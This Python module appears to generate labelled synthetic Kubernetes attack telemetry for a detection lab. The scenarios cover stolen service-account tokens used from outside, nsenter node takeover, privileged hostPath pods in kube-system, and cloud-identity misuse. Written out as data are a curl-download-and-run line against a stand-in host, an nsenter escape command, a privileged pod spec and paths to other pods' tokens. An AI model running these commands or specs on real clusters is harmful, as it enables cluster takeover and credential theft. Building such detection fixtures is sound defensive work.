"""Attacks that do not stay in their pod: a token used from outside, the node taken, pods made, the cloud identity used."""

from __future__ import annotations

from dataclasses import replace

from eightysix.lab.generate import audit as audit_log
from eightysix.lab.generate import azure
from eightysix.lab.generate.audit import Caller, Request
from eightysix.lab.generate.azure import Principal
from eightysix.lab.generate.cluster import Image, Pod
from eightysix.lab.generate.ids import uuid_id
from eightysix.lab.generate.label import Declared, Label, attack
from eightysix.lab.generate.programs import (
    DROP,
    METADATA,
    Wheel,
    api_request,
    boot_python,
    call,
    install,
    pip_command,
    read_service_account,
)
from eightysix.lab.generate.scenarios.cast import SERVER, inference, start_server
from eightysix.lab.generate.scene import Process, Scene, Streams
from eightysix.lab.generate.sensor import Stack
from eightysix.lab.generate.settings import FULL, KERNEL_AND_AUDIT, AuditForm, Setting

__all__ = ["AUDIT_ONLY", "EGRESS", "IDENTITY", "THIEF", "host_pod_body", "update", "volume"]

AUDIT_ONLY = Setting("audit", None, None, (AuditForm.PLAIN,))
EGRESS = {"egress": ["203.0.113.0/28"]}
THIEF = "198.51.100.86"
IDENTITY = Principal("id-inference")
KUBECTL = "kubectl/v1.34.1 (linux/amd64) kubernetes/3a8f1c2"
LANDS = 1_200.0
_WHEEL = Wheel("torch-perf-utils", "1.4.3", ("torch_perf_utils/_boot.py",))
THREAD = Stack(("torch-perf-utils",), thread=19)


def update(scene: Scene) -> Process:
    """The inference server, running for 20 minutes, updates a plug-in and imports it."""
    container = inference(scene)
    server = scene.entrypoint(0.31, container, "/opt/venv/bin/python", "/app/server.py")
    start_server(server, 0.31)
    pip = server.exec(LANDS, "/opt/venv/bin/python3", pip_command("-U", _WHEEL.name))
    install(pip, LANDS, [_WHEEL])
    at_import = Stack((_WHEEL.name, *SERVER.frames), at_import=_WHEEL.name, thread=18)
    server.sense_import(LANDS + 2.45, "torch_perf_utils._boot", at_import)
    return server


def elsewhere(pod: Pod, address: str) -> Caller:
    """Whoever holds the pod's token, at another address."""
    return replace(audit_log.of_pod(pod), address=address)


def _outside(scene: Scene, pod: Pod, at: float) -> None:
    thief = elsewhere(pod, THIEF)
    scene.api(at, thief, Request("list", "secrets", pod.namespace, user_agent=KUBECTL))
    scene.api(at + 4.0, thief, Request("get", "secrets", pod.namespace, "acr-push-sp", user_agent=KUBECTL))


def _label(
    pod: Pod, telling: str, twin: str, rule: str, *, stages: tuple[str, ...] = (), most: str = "contain"
) -> Label:
    return Label(
        malicious=True,
        at_least="suspect",
        at_most=most,
        telling=telling,
        twin=twin,
        stages=stages,
        rules=(rule,),
        pod_uid=pod.uid,
    )


@attack("token-outside", FULL, KERNEL_AND_AUDIT)
def token_outside(setting: Setting) -> tuple[Streams, Label, Streams, Declared]:
    """A poisoned plug-in reads the token, and 7 minutes later somebody uses it from an address of the world."""
    scene = Scene(setting)
    server = update(scene)
    read_service_account(server, LANDS + 30.0, THREAD)
    call(server, LANDS + 31.0, DROP, THREAD)
    pod = server.container.pod
    _outside(scene, pod, LANDS + 420.0)
    label = _label(
        pod, "the address is in no declared range", "token-by-gateway", "token-outside", stages=("leave",)
    )
    return scene.streams(), label, {}, EGRESS


@attack("token-outside-by-log-alone", AUDIT_ONLY)
def token_outside_by_log_alone(setting: Setting) -> tuple[Streams, Label, Streams, Declared]:
    """Only the audit log is there: the pod lists its pods as ever, then its token is used from the world."""
    scene = Scene(setting)
    pod = inference(scene).pod
    for at in (10.0, 310.0, 610.0):
        scene.api(at, pod, Request("list", "pods", "ml"))
    _outside(scene, pod, 900.0)
    label = _label(
        pod,
        "the address is in no declared range",
        "token-by-gateway",
        "token-outside",
        stages=("leave",),
        most="suspect",
    )
    return scene.streams(), label, {}, EGRESS


@attack("token-elsewhere", KERNEL_AND_AUDIT)
def token_elsewhere(setting: Setting) -> tuple[Streams, Label]:
    """Nothing is declared; the log has the node's own address, and a program that landed took the token."""
    scene = Scene(setting)
    server = update(scene)
    pod = server.container.pod
    scene.api(600.0, pod, Request("list", "pods", "ml"))
    server.write(LANDS + 20.0, "/tmp/.cache/agent")
    agent = server.exec(LANDS + 21.0, "/tmp/.cache/agent", "")
    agent.read(LANDS + 30.0, "/var/run/secrets/kubernetes.io/serviceaccount/token")
    _outside(scene, pod, LANDS + 420.0)
    label = _label(
        pod,
        "the address is new, and neither the pod's nor its node's",
        "token-by-gateway",
        "token-outside",
        stages=("reach", "pivot"),
    )
    return scene.streams(), label


def volume(pod: Pod, *, mount: str = "/host", name: str = "kube-api-access-x7k2p") -> str:
    """The token of another pod as the node has it, seen from a container with the node's files at `mount`."""
    return (
        f"{mount}/var/lib/kubelet/pods/{pod.uid}/volumes/kubernetes.io~projected/{name}"
        "/..2026_11_24_06_41_09.1274825283/token"
    )


def _neighbours(scene: Scene) -> list[Pod]:
    return [scene.pod("checkout", namespace="shop"), scene.pod("ledger", namespace="bank")]


@attack("node-takeover", FULL, KERNEL_AND_AUDIT)
def node_takeover(setting: Setting) -> tuple[Streams, Label]:
    """A program that landed in a privileged training pod enters the node's namespaces and reads other pods' tokens."""
    scene = Scene(setting)
    pod = scene.pod("trainer", namespace="research", kind="Job")
    container = scene.container(pod, Image("registry.example/ml/train:3", "1"), started=0.0)
    train = scene.entrypoint(0.3, container, "/opt/venv/bin/python", "/app/train.py")
    boot_python(train, 0.3, ["python", "/app/train.py"])
    shell = train.exec(LANDS, "/bin/sh", '-c "curl -fsSLo /tmp/.x https://cdn.example/x; /tmp/.x"')
    curl = shell.exec(LANDS + 0.01, "/usr/bin/curl", "-fsSLo /tmp/.x https://cdn.example/x")
    call(curl, LANDS + 0.05, DROP, None)
    curl.write(LANDS + 0.3, "/tmp/.x")
    curl.exit(LANDS + 0.32)
    program = shell.exec(LANDS + 0.4, "/tmp/.x", "")
    nsenter = program.exec(LANDS + 2.0, "/usr/bin/nsenter", "-t 1 -m -u -i -n -p -- /bin/sh -s")
    nsenter.exec(LANDS + 2.1, "/bin/sh", "-s", host=("mnt", "pid", "net"))
    for place, neighbour in enumerate(_neighbours(scene)):
        program.read(LANDS + 4.0 + place, volume(neighbour))
    call(program, LANDS + 9.0, DROP, None)
    label = _label(
        pod,
        "the process that enters the node runs a program that landed",
        "operator-debugs-node",
        "node-takeover",
        stages=("land", "reach", "pivot"),
    )
    return scene.streams(), label


@attack("kubelet-folder", KERNEL_AND_AUDIT)
def kubelet_folder(setting: Setting) -> tuple[Streams, Label]:
    """A log collector with the node's files mounted gets a poisoned plug-in, whose program reads tokens of other pods."""
    scene = Scene(setting)
    pod = scene.pod("log-collector", namespace="monitoring", kind="DaemonSet")
    container = scene.container(pod, Image("registry.example/ops/collector:2", "1"), started=0.0)
    agent = scene.entrypoint(0.3, container, "/usr/bin/collector", "--config /etc/collector.yaml")
    gem = agent.exec(LANDS, "/usr/bin/gem", "install fluent-plugin-geo")
    gem.write(LANDS + 1.0, "/usr/local/bin/geo-helper")
    helper = gem.exec(LANDS + 1.2, "/usr/local/bin/geo-helper", "")
    for place, neighbour in enumerate(_neighbours(scene)):
        helper.read(LANDS + 2.0 + place, volume(neighbour))
    call(helper, LANDS + 6.0, DROP, None)
    label = _label(
        pod,
        "what the installer brought reads them, not the collector",
        "node-agent-folders",
        "node-takeover",
        stages=("reach",),
    )
    return scene.streams(), label


def host_pod_body(name: str, node: str) -> dict[str, object]:
    """A pod that mounts the node's root and may do anything there."""
    return {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": name, "namespace": "kube-system"},
        "spec": {
            "nodeName": node,
            "hostPID": True,
            "containers": [
                {
                    "name": "setup",
                    "image": "docker.io/library/alpine:3.22",
                    "command": ["/usr/sbin/chroot", "/host", "/bin/sh", "-c", "true"],
                    "securityContext": {"privileged": True},
                    "volumeMounts": [{"name": "host", "mountPath": "/host"}],
                }
            ],
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
        },
    }


def _steal_and_make(process: Process, by: Stack | None, requests: list[Request]) -> None:
    call(process, LANDS + 38.0, METADATA, by)
    read_service_account(process, LANDS + 40.0, by)
    api_request(process, LANDS + 40.1, Request("list", "secrets", "", user_agent="Python-urllib/3.11"), by)
    for place, request in enumerate(requests):
        api_request(process, LANDS + 42.0 + place * 0.3, request, by)


@attack("privileged-pods", FULL, KERNEL_AND_AUDIT)
def privileged_pods(setting: Setting) -> tuple[Streams, Label]:
    """The second stage of a poisoned release: a privileged pod on every node, under a name of the platform's kind."""
    scene = Scene(setting)
    server = update(scene)
    nodes = [scene.node(place) for place in range(2)]
    requests = [
        Request(
            "create",
            "pods",
            "kube-system",
            f"node-setup-{node.name}",
            code=201,
            user_agent="Python-urllib/3.11",
            body=host_pod_body(f"node-setup-{node.name}", node.name),
        )
        for node in nodes
    ]
    _steal_and_make(server, THREAD, requests)
    for place, node in enumerate(nodes):
        made = scene.pod(
            "",
            namespace="kube-system",
            kind="Pod",
            name=f"node-setup-{node.name}",
            node=place,
            service_account="default",
        )
        at = LANDS + 46.0 + place
        container = scene.container(
            made, Image("docker.io/library/alpine:3.22", "1"), started=at, name="setup", instrumented=False
        )
        shell = scene.entrypoint(at + 0.2, container, "/usr/sbin/chroot", "/host /bin/sh -s", cwd="/")
        shell.read(at + 1.0, volume(scene.pod("checkout", namespace="shop"), mount="/host"))
        call(shell, at + 3.0, DROP, None)
    label = _label(
        server.container.pod,
        "the token that made them was taken by what landed a moment before",
        "ci-makes-pods",
        "made-pods",
        stages=("land", "reach", "pivot", "leave", "use"),
    )
    return scene.streams(), label


@attack("daemonset-made", KERNEL_AND_AUDIT)
def daemonset_made(setting: Setting) -> tuple[Streams, Label]:
    """A program that landed makes a DaemonSet elsewhere; its pods ask the metadata service. The log has no bodies."""
    scene = Scene(setting)
    server = update(scene)
    server.write(LANDS + 20.0, "/tmp/.cache/agent")
    agent = server.exec(LANDS + 21.0, "/tmp/.cache/agent", "")
    made = Request(
        "create", "daemonsets", "monitoring", "metrics-agent", group="apps", code=201, user_agent="agent/1.0"
    )
    _steal_and_make(agent, None, [made])
    for place in range(2):
        pod = scene.pod("metrics-agent", namespace="monitoring", kind="DaemonSet", node=place)
        at = LANDS + 50.0 + place
        container = scene.container(
            pod, Image("docker.io/library/alpine:3.22", "1"), started=at, instrumented=False
        )
        shell = scene.entrypoint(at + 0.2, container, "/bin/sh", "-s", cwd="/")
        call(shell, at + 1.0, METADATA, None)
        call(shell, at + 3.0, DROP, None)
    label = _label(
        server.container.pod, "a program that landed holds the token that made it", "ci-makes-pods", "made-pods",
        stages=("land", "reach", "leave", "use"),
    )  # fmt: skip
    return scene.streams(), label


def declared() -> Declared:
    """The egress, and whose the identity is."""
    return {**EGRESS, "identity": [f"ml/inference-sa={IDENTITY.client_id}"]}


def reached(scene: Scene) -> Process:
    """The server, robbed of its managed identity; its service account is known by a request of its own."""
    server = update(scene)
    call(server, LANDS + 38.0, METADATA, THREAD)
    scene.api(100.0, server.container.pod, Request("list", "pods", "ml"))
    return server


@attack("identity-outside", FULL, KERNEL_AND_AUDIT)
def identity_outside(setting: Setting) -> tuple[Streams, Label, Streams, Declared]:
    """Hours after the theft the identity reads a secret and a model from an address of the world."""
    scene = Scene(setting)
    server = reached(scene)
    for at, record in (
        (LANDS + 39.0, azure.sign_in),
        (LANDS + 7_200.0, lambda who, ns: azure.key_vault(who, ns, THIEF)),
        (LANDS + 7_260.0, lambda who, ns: azure.storage(who, ns, THIEF)),
    ):
        scene.note("azure-logs.jsonl", scene.ns(at), record(IDENTITY, scene.ns(at)))
    label = _label(
        server.container.pod, "the address is in no declared range", "identity-at-home", "identity-outside",
        stages=("reach", "leave"),
    )  # fmt: skip
    return scene.streams(), label, {}, declared()


@attack("identity-of-the-nodes-outside", KERNEL_AND_AUDIT)
def identity_of_the_nodes_outside(setting: Setting) -> tuple[Streams, Label, Streams, Declared]:
    """The identity is the nodes' own, and the rows are of Log Analytics: keys are listed and an image pushed."""
    scene = Scene(setting)
    server = reached(scene)
    identity = Principal("aks-gpu-agentpool")
    for at, row in ((LANDS + 600.0, azure.activity_row), (LANDS + 640.0, azure.registry_row)):
        scene.note("azure-tables.jsonl", scene.ns(at), row(identity, scene.ns(at), THIEF))
    label = _label(
        server.container.pod, "the address is in no declared range", "identity-at-home", "identity-outside",
        stages=("reach", "leave"),
    )  # fmt: skip
    return scene.streams(), label, {}, {**EGRESS, "identity": [f"*={identity.object_id}"]}


TOKEN_OF_CI = uuid_id("token", "ci")
